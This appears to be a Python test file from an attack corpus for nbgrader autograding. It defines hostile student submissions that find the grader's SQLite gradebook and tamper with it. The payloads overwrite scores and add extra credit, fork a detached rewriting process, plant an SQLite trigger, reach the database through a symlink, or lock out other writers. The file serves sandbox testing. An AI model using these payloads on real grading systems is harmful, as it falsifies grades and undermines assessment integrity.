"""Writing the grade oneself: nbgrader keeps it in an SQLite file above the folder in which it runs submissions."""

from __future__ import annotations

from tests.attacks.corpus import HandIn, attack, stopper

WRITE = """
import glob, os, sqlite3
from pathlib import Path

ME = {me!r}
PLACES = [*Path.cwd().parents, *map(Path, glob.glob("/proc/[0-9]*/cwd")), *map(Path, {folders!r})]


def gradebooks():
    for place in PLACES:
        try:
            if (place / "submitted" / ME).is_dir() and (place / "gradebook.db").is_file():
                yield place / "gradebook.db"
        except OSError:
            pass


def write_points(path):
    base = sqlite3.connect(path, timeout=1)
    mine = "SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id " \\
           "WHERE a.student_id = ?"
    base.execute(f"UPDATE grade SET auto_score = 8, manual_score = 8, extra_credit = 50, needs_manual_grade = 0 "
                 f"WHERE notebook_id IN ({{mine}})", (ME,))
    base.commit()
    base.close()


def write_them_all(*_):
    for path in gradebooks():
        try:
            write_points(path)
        except Exception as error:
            print(error)
"""


def _able_to_write(student: HandIn) -> None:
    student.extra(WRITE.format(me=student.student, folders=[str(student.course.root.parent / "grading")]))


@attack(stock="gains")
def writes_points_at_once(student: HandIn) -> None:
    """While the notebook runs; what grading records afterwards overwrites the score, but not the extra credit."""
    _able_to_write(student)
    student.end("embeddings-one-hot", "write_them_all()")


@attack(stock="gains")
def writes_points_at_exit(student: HandIn) -> None:
    """When the interpreter ends."""
    _able_to_write(student)
    student.end("embeddings-one-hot", "import atexit\natexit.register(write_them_all)")


@attack(stock="gains")
def writes_points_later(student: HandIn) -> None:
    """A process of its own that outlives the notebook, and writes again and again."""
    _able_to_write(student)
    student.end(
        "embeddings-one-hot",
        """
        import os, time

        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for _ in range(100):
                    time.sleep(0.3)
                    write_them_all()
            os._exit(0)
        """,
    )


@attack(stock="gains")
def leaves_a_trigger(student: HandIn) -> None:
    """SQLite itself adds the points, whenever the score is written."""
    _able_to_write(student)
    student.end(
        "embeddings-one-hot",
        """
        for path in gradebooks():
            base = sqlite3.connect(path, timeout=1)
            base.execute(f'''
                CREATE TRIGGER "bonus of {ME}" AFTER UPDATE OF auto_score ON grade
                WHEN new.extra_credit IS NULL AND new.notebook_id IN (
                    SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id
                    WHERE a.student_id = '{ME}')
                BEGIN UPDATE grade SET extra_credit = 50 WHERE id = new.id; END''')
            base.commit()
            base.close()
        """,
    )


@attack(stock="right")
def reaches_the_gradebook_through_a_link(student: HandIn) -> None:
    """A link in the submission that leads to the gradebook."""
    student.links["points.db"] = "../../../gradebook.db"
    _able_to_write(student)
    student.end(
        "embeddings-one-hot",
        """
        import atexit

        def write_through_the_link():
            write_points("points.db")

        atexit.register(write_through_the_link)
        """,
    )


@stopper(stock="right", unsure=["test-embeddings-one-hot"])
def locks_the_gradebook(student: HandIn) -> None:
    """A transaction that stays open for twenty seconds keeps every other writer out."""
    _able_to_write(student)
    student.end(
        "embeddings-one-hot",
        """
        import os, time

        if os.fork() == 0:
            bases = [sqlite3.connect(path, timeout=1) for path in gradebooks()]
            for base in bases:
                base.execute("BEGIN EXCLUSIVE")
            time.sleep(20)
            os._exit(0)
        """,
    )
